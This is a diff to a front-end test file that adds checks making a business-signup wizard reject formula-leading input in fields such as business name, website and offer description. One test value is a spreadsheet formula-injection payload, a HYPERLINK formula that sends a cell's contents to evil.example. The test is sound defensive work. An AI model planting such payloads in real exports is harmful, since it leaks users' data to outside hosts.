@@ -1,6 +1,7 @@
 import { fireEvent, screen, waitFor, within } from '@testing-library/react';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { MESSAGES, PERPETUAL_DATE } from '../../shared/constants';
+import { formulaMessage } from '../../shared/partner-rules';
 import { homeFixture } from './fixtures/home-data';
 import { expectFieldError } from './form-assertions';
 import { BUSINESS_INFO_STEPS, LOCATION_STEPS } from '../support/wizard-steps';
@@ -98,6 +99,21 @@ describe('Business Info', () => {
     expect(api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body.json.contractInfo).toMatchObject({ emailTo: 'pat@corner.example', businessData: { printedName: 'Pat Baker', title: 'Owner' } });
   });
 
+  it('refuses free text that would start a spreadsheet formula, naming the field', async () => {
+    const { form, api } = await openWizard();
+    const evil = '=HYPERLINK("https://evil.example/?"&A3,"Open")';
+    for (const [label, value] of [['Business name', evil], ['Address', '12 Wheat Street'], ['City', 'Lawrence'], ['State', 'KS'], ['ZIP code', '66044'], ['Phone', '7855550142'], ['Email', 'owner@corner.example'], ['Website', '+evil.example']]) typeInto(form, label!, value!);
+    const send = () => fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
+    send();
+    const nameMessage = formulaMessage('businessName');
+    await waitFor(() => expect(warning(form)).toBe(`${MESSAGES.warningTitle}${nameMessage}`));
+    expectFieldError(within(form).getByLabelText('Business name'), nameMessage);
+    typeInto(form, 'Business name', 'Corner Bakery');
+    send();
+    await waitFor(() => expect(warning(form)).toBe(`${MESSAGES.warningTitle}${formulaMessage('website')}`));
+    expect(api.paths()).not.toContain('tbp/savebusinesstemp');
+  });
+
   it('refuses to include the main address as a location until it is complete, then adds it', async () => {
     const { form } = await openWizard();
     const box = () => within(form).getByLabelText('Include the main business address as a location') as HTMLInputElement;
@@ -152,6 +168,9 @@ describe('the location and offer dialogs', () => {
     typeInto(dialog, 'Display value', '10% off');
     save();
     await expectWarning(MESSAGES.offerDescriptionRequired);
+    typeInto(dialog, 'Full description', '-10% on any order');
+    save();
+    await expectWarning(formulaMessage('description'));
     typeInto(dialog, 'Full description', 'Ten percent off any order.');
     save();
     await expectWarning(MESSAGES.offerDollarRequired);
